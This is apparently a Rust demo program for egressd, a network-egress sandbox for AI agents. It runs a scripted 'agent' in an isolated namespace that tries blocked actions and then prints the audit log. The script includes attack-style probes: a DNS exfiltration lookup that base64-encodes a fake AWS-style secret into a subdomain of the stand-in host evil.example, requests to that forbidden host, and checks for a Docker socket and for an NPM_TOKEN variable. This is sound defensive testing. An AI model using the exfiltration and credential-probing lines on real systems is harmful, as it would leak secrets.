//! `egressd-demo` (`cargo xtask demo`): a scripted "agent" inside `egressd exec`.
//!
//! It makes a network namespace with two fake HTTPS upstreams, `api.allowed.example` and
//! `evil.example`, signed by a throw-away CA, then runs a short shell script in a sandbox that
//! allows only `api.allowed.example`. The script tries the allowed API by name (through the
//! sandbox's DNS), a DNS exfiltration lookup, the forbidden host (also under the allowed
//! host's address), an IP literal, a UDP datagram, a ping and a plain-HTTP request, saying what
//! each step shows.
//! Afterwards it prints the audit log as a table and egressd's summary line.
//!
//! Network rule (`shared/TOOLCHAIN.md`): the sandbox has its own netns with only loopback,
//! the `192.0.2.x` destinations exist only there, and the proxy reaches the upstreams in the
//! demo's own namespace through `--resolve`. Nothing leaves the machine.

use std::{process::ExitCode, time::Duration};

use egressd_tests::fakes::{FakeEntra, FakeOidc, Fic};
use egressd_tests::{EgressdCommand, HttpUpstream, HttpsUpstream, Scratch, TestCa, UpstreamNet};

/// The intercepted "Azure OpenAI" host.
const LLM: &str = "llm.openai.azure.example";
const TENANT: &str = "00000000-0000-0000-0000-0000000000aa";
const APP: &str = "11111111-2222-3333-4444-555555555555";
use serde_json::Value;

fn main() -> ExitCode {
    if !nix::unistd::geteuid().is_root() {
        eprintln!(
            "egressd-demo: needs root (it creates a network namespace and runs `egressd exec`): try `sudo -E cargo xtask demo`"
        );
        return ExitCode::FAILURE;
    }

    println!("egressd demo: an agent that may talk to api.allowed.example and nothing else\n");
    let net = UpstreamNet::new();
    let ca = TestCa::new();
    let scratch = Scratch::new();
    let ca_pem = ca.write_ca_pem(scratch.dir());
    let probe = scratch.install_probe();
    let audit = scratch.path("audit.jsonl");
    let api = HttpsUpstream::start(&net, net.addr(), &["api.allowed.example"], &ca);
    let evil = HttpsUpstream::start(&net, net.addr2(), &["evil.example"], &ca);
    let evil_http = HttpUpstream::start(&net, net.addr2(), "evil.example");
    // An "Azure OpenAI" resource with API keys disabled: only an Entra token gets in. egressd
    // mints a GitHub Actions OIDC token, exchanges it at (fake) Entra, and injects the result.
    let llm = HttpsUpstream::start(&net, net.addr3(), &[LLM], &ca);
    let oidc = FakeOidc::start(&ca);
    let entra = FakeEntra::start(&ca, &oidc, TENANT);
    entra.add_app(
        APP,
        Fic {
            issuer: oidc.issuer(),
            subject: "repo:octo-org/octo-repo:ref:refs/heads/main".into(),
            audience: "api://AzureADTokenExchange".into(),
        },
    );
    let config = scratch.path("egressd.toml");
    std::fs::write(
        &config,
        format!(
            r#"allow_domains = ["api.allowed.example"]
upstream_ca = "{ca}"

[[credential]]
name = "github"
source = "github-oidc"
audience = "api://AzureADTokenExchange"

[[credential]]
name = "azure-openai"
source = "entra"
tenant = "{TENANT}"
client_id = "{APP}"
scope = "https://cognitiveservices.azure.com/.default"
assertion = "github"
authority = "{authority}"

[[intercept]]
host = "{LLM}"
credential = "azure-openai"
path_prefix = "/openai/"

# Who ran this job: a token of the (fake) job's issuer, verified, on every audit line.
[provenance]
issuer = "{issuer}"
"#,
            ca = ca_pem.display(),
            authority = entra.authority(),
            issuer = oidc.issuer(),
        ),
    )
    .expect("writing the demo configuration");
    println!("setup: fake upstreams in netns {}:", net.name());
    println!("  api.allowed.example  https://{}", api.addr());
    println!(
        "  evil.example         https://{}  http://{}",
        evil.addr(),
        evil_http.addr()
    );
    println!(
        "  {LLM}   https://{}  (accepts only Entra tokens)",
        llm.addr()
    );
    println!(
        "  fake GitHub OIDC issuer and fake Entra on 127.0.0.1 (the issuer also proves who ran \
         the job: its verified claims go on every audit line)"
    );
    println!(
        "setup: the sandbox only allows api.allowed.example; egressd resolves names with --resolve\n"
    );

    let ca = ca_pem.display();
    let probe = probe.display();
    let script = format!(
        r#"
exec 2>&1
step() {{ printf '\n--- %s\n' "$*"; }}
step "0/9 call the LLM API with a placeholder key: egressd terminates TLS for this host only, mints GitHub OIDC -> Entra, injects the token"
curl -sS --max-time 20 -H 'api-key: placeholder' https://{LLM}/openai/deployments/gpt/chat/completions; echo " [curl exit $?]"
step "1/9 curl the allowed API by name: the sandbox's DNS answers it, TLS passes through untouched, curl checks the upstream's own certificate"
curl -sS --max-time 10 --cacert {ca} https://api.allowed.example/; echo " [curl exit $?]"
step "2/9 look up a name that carries data (DNS exfiltration): answered NXDOMAIN inside the sandbox, nothing leaves"
getent hosts "$(echo 'AKIA-secret' | base64 | tr -d '=\n').evil.example"; echo " [getent exit $?: not found]"
step "3/9 curl a forbidden host the agent knows the address of: the proxy reads the name from the ClientHello and closes the connection"
curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.66 https://evil.example/; echo " [curl exit $?]"
step "4/9 curl the forbidden name with the ALLOWED host's address: the decision follows the name, not the address"
curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.10 https://evil.example/; echo " [curl exit $?]"
step "5/9 curl an IP literal: there is no name to allow, so it is denied"
curl -sS --max-time 10 -k https://192.0.2.10/; echo " [curl exit $?]"
step "6/9 send a UDP datagram to 192.0.2.53:9999 (think QUIC): the kernel refuses it (EPERM)"
{probe} udp 192.0.2.53:9999
step "7/9 ping 192.0.2.1: ICMP never leaves the sandbox"
ping -c 1 -W 2 192.0.2.1 2>&1 | tail -n 2; echo " [ping done]"
step "8/9 plain HTTP to the forbidden host: the proxy answers 403 with the reason"
curl -sS --max-time 10 --resolve evil.example:80:192.0.2.66 -w ' [HTTP %{{http_code}}]' http://evil.example/; echo " [curl exit $?]"
step "9/9 side doors: a vsock socket to the hypervisor (seccomp refuses the family), the host's /run (a private one holding only egressd's CA bundle: no Docker socket), a token in the environment (removed)"
{probe} socket vsock
ls -A /run | grep -v '^user$' | head -3; echo " [/run listed]"
env | grep -c '^NPM_TOKEN=' ; echo " [NPM_TOKEN variables seen]"
"#
    );

    println!(
        "$ egressd exec --config egressd.toml --resolve ... --audit-log audit.jsonl --user 65534:65534 -- sh -c '<agent script>'"
    );
    let output = EgressdCommand::new()
        .arg("--config")
        .arg(&config)
        .env("ACTIONS_ID_TOKEN_REQUEST_URL", oidc.request_url())
        .env("NPM_TOKEN", "npm_demo0123456789abcdefghij")
        .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", oidc.request_token())
        .resolve(LLM, net.addr3())
        .resolve("api.allowed.example", net.addr())
        .resolve("evil.example", net.addr2())
        .audit_log(&audit)
        .user("65534:65534")
        .timeout(Duration::from_secs(50))
        .echo(true)
        .sh(&script)
        .spawn()
        .wait();

    println!("\n=== audit log ({}) ===", audit.display());
    print_table(&output.audit());
    println!("\n=== egressd's summary ===");
    let summary = output.summary();
    if summary.is_empty() {
        println!("(egressd printed no summary line)");
    } else {
        println!("{summary}");
    }
    println!(
        "\nupstream hits: api.allowed.example {} connection(s), evil.example {} (https) + {} (http)",
        api.connections(),
        evil.connections(),
        evil_http.connections()
    );
    let injected: Vec<String> = llm
        .credentials()
        .into_iter()
        .map(|(_, name, value)| {
            let shown = value.get(..16).unwrap_or(&value);
            format!(
                "{name}: {shown}... (issued by Entra: {})",
                entra.issued(value.trim_start_matches("Bearer ")).is_some()
            )
        })
        .collect();
    println!("{LLM} received: {}", injected.join("; "));
    if output.status.success() {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    }
}

fn print_table(records: &[Value]) {
    if records.is_empty() {
        println!("(no records)");
        return;
    }
    let columns = [
        "decision",
        "proto",
        "qtype",
        "name",
        "port",
        "orig_dst",
        "upstream",
        "credential",
        "reason",
    ];
    let rows: Vec<Vec<String>> = records
        .iter()
        .map(|r| columns.iter().map(|c| cell(&r[*c])).collect())
        .collect();
    let widths: Vec<usize> = columns
        .iter()
        .enumerate()
        .map(|(i, c)| {
            rows.iter()
                .map(|r| r[i].chars().count())
                .max()
                .unwrap_or(0)
                .max(c.len())
        })
        .collect();
    let line = |cells: Vec<String>| {
        cells
            .iter()
            .zip(&widths)
            .map(|(c, w)| format!("{c:<w$}"))
            .collect::<Vec<_>>()
            .join("  ")
            .trim_end()
            .to_owned()
    };
    println!(
        "{}",
        line(columns.iter().map(|c| c.to_uppercase()).collect())
    );
    for row in rows {
        println!("{}", line(row));
    }
}

fn cell(v: &Value) -> String {
    match v {
        Value::Null => "-".to_owned(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}
